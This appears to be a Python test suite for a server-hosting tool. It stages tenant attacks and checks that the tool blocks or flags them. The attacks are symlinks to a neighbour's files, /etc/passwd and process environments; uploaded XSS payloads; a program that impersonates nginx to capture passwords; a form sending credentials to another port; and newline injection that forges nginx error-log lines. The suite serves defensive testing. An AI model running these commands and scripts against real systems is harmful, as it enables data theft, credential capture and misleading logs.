"""Attacks through what is served: attachments, and an application that answers as it likes."""

# ruff: noqa: E501 - the scripts stand as they are run
from __future__ import annotations

import time

from tests.machine.biomaid import findings
from tests.machine.tenants.attack import attack
from tests.machine.tenants.ground import MARK, OTHER, STRANGER, Ground
from tests.machine.tenants.words import hostile


def fetched(g: Ground, path: str) -> tuple[int, str, bytes]:
    """What the site answers to anybody."""
    status, kind, body = g.machine.fetch(path, host="serveur")
    assert MARK.encode() not in body, f"{path} is served: {body[:100]!r}"
    return status, kind, body


@attack("the neighbour's letter was served")
def media_links_out(g: Ground) -> None:
    """Links in `media`, and in the static files, lead to the settings, to a neighbour's attachments, to nginx's and root's."""
    g.tenant(
        "cd ~/media; ln -s ../biomaid/instance_settings.py a.txt; ln -s /home/other/media b; ln -s /home/other/media/letter.txt c.txt; ln -s /etc e; ln -s /home/other/biomaid f; ln -s /proc/self/environ p.txt;"
        "mkdir -p ~/staticfiles/x; cd ~/staticfiles/x; ln -s /home/other/media b; ln -s /home/other/biomaid f; ln -s /etc e"
    )
    for folder in ("/media", "/static/x"):
        for path in ("b/letter.txt", "e/passwd", "f/manage.py", "f/.git/config"):
            status, _kind, body = fetched(g, f"{folder}/{path}")
            assert status != 200, f"{folder}/{path}: {body[:60]!r}"
    for path in ("/media/c.txt", "/media/p.txt"):
        assert fetched(g, path)[0] != 200, path


@attack("the neighbour's letter was served")
def media_is_a_link(g: Ground) -> None:
    """`~/media`, `~/staticfiles` and `~/biomaid.sock` themselves lead to the neighbour's."""
    g.tenant(
        "cd; mv media m; ln -s /home/other/media media; mv staticfiles s; ln -s /home/other/biomaid staticfiles; ln -s /home/other/biomaid m/x"
    )
    for path in ("/media/letter.txt", "/static/manage.py", "/static/.git/config"):
        status, _kind, body = fetched(g, path)
        assert status != 200, f"{path}: {body[:60]!r}"


@attack("it was no socket, red, and nobody knew what to do")
def socket_is_a_link(g: Ground) -> None:
    """`~/biomaid.sock` leads to the neighbour's, which its own user may not reach: nginx may, and connects to it. The
    way is the document's, and stays open; it is found, and repaired as the tenant."""
    g.later("rm -f /home/demo/biomaid.sock; systemctl restart biomaid-instance@demo")
    g.tenant("rm -f ~/biomaid.sock; ln -s /home/other/biomaid.sock ~/biomaid.sock")
    served = fetched(g, "/")[0]
    found = g.verify("service.socket")["service.socket"]
    assert found["outcome"] == ("warning" if served in (200, 302) else "failed"), (served, found)
    assert found["cause"]["id"] == "socket-of-another", found
    assert "/home/other/biomaid.sock" in found["evidence"], found
    # One where no page comes from is no less found, and red.
    g.tenant("ln -sfn /run/postgresql/.s.PGSQL.5432 ~/biomaid.sock")
    found = g.verify("service")["service.socket"]
    assert (found["outcome"], found["cause"]["id"]) == ("failed", "socket-of-another"), found
    g.jalon("fix", "biomaid", "--instance", "demo", "--yes", "--format", "json", deadline=150)
    assert g.root("stat -c '%F %U' /home/demo/biomaid.sock") == "socket demo\n"
    assert g.verify()["service.socket"]["outcome"] == "passed"


@attack("they were served, as what they say they are")
def media_hidden_and_html(g: Ground) -> None:
    """Hidden files, HTML, SVG and scripts in `media`, in the site's name."""
    g.tenant(
        "cd ~/media; echo x >.hidden; mkdir .git; echo x >.git/config; for e in html htm svg js xml xhtml swf mht css HTML svgz html.gz pdf.html php; do echo '<script>alert(1)</script>' >x.$e; done; printf 'GIF89a' >x.png; printf '%%PDF-1.4' >x.pdf; chmod -R a+rX ."
    )
    for path in ("/media/.hidden", "/media/.git/config", "/media/./.hidden"):
        assert fetched(g, path)[0] in (403, 404), path
    script = "curl -s -o /dev/null -D - -H 'Host: serveur' http://127.0.0.1/media/x.{}"
    for end in ("html", "htm", "svg", "js", "xml", "xhtml", "swf", "HTML", "svgz", "php", "pdf.html"):
        heads = g.root(script.format(end)).lower()
        assert (
            "200" not in heads.splitlines()[0]
            or "content-disposition: attachment" in heads
            or "application/octet-stream" in heads
        ), f"{end}: {heads}"
        assert "nosniff" in heads, f"{end}: {heads}"
    for end in ("png", "pdf"):
        heads = g.root(script.format(end)).lower()
        assert "nosniff" in heads and "200" in heads.splitlines()[0], heads


@attack("")
def neighbours_home(g: Ground) -> None:
    """The tenant looks around: the neighbour's home and socket, backups, states, logs, units, root's folders."""
    for path in (
        "/home/other/biomaid", "/home/other/media/letter.txt", "/home/other/biomaid.sock", "/var/backups/other", "/var/backups/demo/x", "/var/lib/jalon/biomaid/other/secrets.toml",
        "/var/lib/jalon/biomaid/demo/secrets.toml", "/var/lib/jalon/biomaid/demo/replaced", "/var/lib/jalon/biomaid/demo/journal.jsonl", "/var/log/biomaid-backup-other.log", "/var/log/nginx/error.log",
    ):  # fmt: skip
        done = g.machine.sh(f"cat {path} 2>&1 || ls {path}/ 2>&1", user="demo", check=False)
        assert done.returncode != 0, f"{path}: {done.stdout[:100]}"
    connected = g.machine.sh(
        "curl -s -m 5 --unix-socket /home/other/biomaid.sock -H 'Host: serveur' http://serveur/ -o /dev/null",
        user="demo",
        check=False,
    )
    assert connected.returncode != 0, "the neighbour's socket takes its requests"


@attack("hung")
def application_drips(g: Ground) -> None:
    """The application answers three bytes every three seconds, without end, and nginx hands each on at once."""
    hostile(g, "[('Content-Type','text/html'),('X-Accel-Buffering','no')]", body="drip()")
    began = time.monotonic()
    g.verify("service", "nginx", "code.clean")
    # One answer is waited for in full (10 s), the others beside each other (5 s), and once more those of which it must be
    # certain (20 s); verification itself takes a second or two.
    assert time.monotonic() - began < 50, "each answer was waited for after the other"


@attack("")
def application_floods(g: Ground) -> None:
    """The application answers without end, as fast as it goes."""
    hostile(g, "[('Content-Type','text/html'),('X-Accel-Buffering','no')]", body="flood()")
    g.verify("service", "nginx", "code.clean")


@attack("")
def application_lies_about_length(g: Ground) -> None:
    """A length below nothing, a redirect without end, a page of a million forms."""
    hostile(
        g,
        "[('Content-Type','text/html'),('Location','/?'+'x'*3000)]",
        "'302 Found'",
        "[b'<form><input type=password name=x>'*30000]",
    )
    g.verify("service", "nginx", "code.clean")
    g.jalon(
        "verify", "biomaid", "--instance", "demo", "--trials", "--only", "service", "--format", "json", deadline=150
    )


@attack("")
def sign_in_elsewhere(g: Ground) -> None:
    """The form for signing in sends name and password to another host."""
    g.background(
        'exec python3 -c \'import socket; s=socket.socket(); s.bind(("127.0.0.1",8098)); s.listen(); open("/tmp/listens","w")\nwhile True:\n c,a=s.accept(); open("/canary/password","ab").write(c.recv(65536)); c.close()\'',
        user="passant",
    )
    hostile(
        g,
        "[('Content-Type','text/html')]",
        body="[b'<form method=post action=\"http://127.0.0.1:8098/\"><input type=text name=username><input type=password name=password></form>']",
    )
    g.jalon(
        "verify", "biomaid", "--instance", "demo", "--trials", "--only", "service", "--format", "json", deadline=150
    )
    assert not g.root("cat /canary/password 2>/dev/null || true"), "the account's password went to another program"


FORGED = """
import os, socket, sys, threading
if len(sys.argv) < 2:
    os.execv("/usr/bin/python3", ["nginx", "/tmp/forged.py", "x"])
listening = socket.create_server(("127.0.0.1", 8081))
open("/canary/bound", "w").close()
form = b'<form method="post"><input name="username"><input name="password" type="password"></form>'
while True:
    one = listening.accept()[0]
    asked = one.recv(65536)
    if asked.startswith(b"POST"):
        open("/canary/posted", "wb").write(asked)
    one.sendall(b"HTTP/1.1 200 OK\\r\\nContent-Type: text/html\\r\\nContent-Length: %d\\r\\n\\r\\n" % len(form) + form)
    one.close()
"""


@attack(
    "it was taken for nginx, and the trial typed the administrator's password into its form",
    allowed="sites-enabled|/var/lib/jalon/biomaid/other",
)
def port_of_a_neighbour(g: Ground) -> None:
    """nginx runs without the neighbour's site; a stranger's program, which calls itself nginx, has its port."""
    g.later("ln -sf ../sites-available/other.conf /etc/nginx/sites-enabled/other.conf; systemctl restart nginx")
    g.root("rm /etc/nginx/sites-enabled/other.conf; systemctl restart nginx")
    g.machine.write("/tmp/forged.py", FORGED, mode=0o644)
    g.background("exec python3 /tmp/forged.py", user=STRANGER)
    g.root("for i in $(seq 100); do [ -e /canary/bound ] && break; sleep 0.1; done; [ -e /canary/bound ]")
    said = g.jalon("verify", "biomaid", "--instance", OTHER, "--trials", "--only", "service", "--format", "json")
    assert findings(said.report)["service.login"]["outcome"] in ("failed", "skipped"), said.report
    said = g.jalon("verify", "biomaid", "--instance", OTHER, "--only", "nginx", "--format", "json")
    assert findings(said.report)["nginx.port"]["outcome"] == "failed", said.report
    assert not g.root("ls /canary/posted 2>/dev/null; true"), "it was handed a password"


HANGS_UP = """
import os, socket
place = "/home/demo/biomaid.sock"
os.rename(place, place + ".away")
listening = socket.socket(socket.AF_UNIX)
listening.bind(place)
os.chmod(place, 0o777)
listening.listen(64)
while True:
    one = listening.accept()[0]
    one.recv(1)
    one.close()
"""
LOGGING = """
import socket, sys, time
from urllib.parse import quote
place = "/home/demo/biomaid.sock"
while True:
    line = (
        time.strftime("%Y/%m/%d %H:%M:%S")
        + f' [crit] 49#49: *3 connect() to unix:{place} failed (13: Permission denied) while connecting to upstream,'
        + ' client: 127.0.0.1, server: serveur, request: "GET / HTTP/1.1", upstream: "http://unix:/", host: "serveur"'
    )
    asked = f"GET /media/{quote(chr(10) + line + chr(10), safe='/')} HTTP/1.1\\r\\nHost: serveur\\r\\n\\r\\n".encode()
    with socket.create_connection(("127.0.0.1", 80)) as one:
        for _time in range(90):
            one.sendall(asked)
            one.recv(65536)
            time.sleep(float(sys.argv[1]))
"""


@attack("a visitor's line was the cause: nginx may not connect, errno 13")
def visitor_writes_the_log(g: Ground) -> None:
    """Addresses with a line end in them, of which nginx's error log has whole lines of a visitor's, now and then and so
    many that nothing else is left of it."""
    g.later("[ ! -S /home/demo/biomaid.sock.away ] || mv /home/demo/biomaid.sock.away /home/demo/biomaid.sock")
    g.machine.write("/tmp/hangs.py", HANGS_UP)
    g.machine.write("/tmp/logging.py", LOGGING)
    g.background("exec python3 /tmp/hangs.py")
    g.root("for i in $(seq 50); do [ -S /home/demo/biomaid.sock.away ] && exit; sleep 0.1; done; exit 1")
    for pause in ("0.2", "0"):
        g.background(f"exec python3 /tmp/logging.py {pause}", user=STRANGER)
        g.root("sleep 1; grep -c '^2.*(13: Permission denied) while connecting' /var/log/nginx/error.log")
        found = g.verify("service", "nginx")["service.page"]
        assert found["outcome"] == "failed" and found["cause"]["id"] != "upstream-permission", found
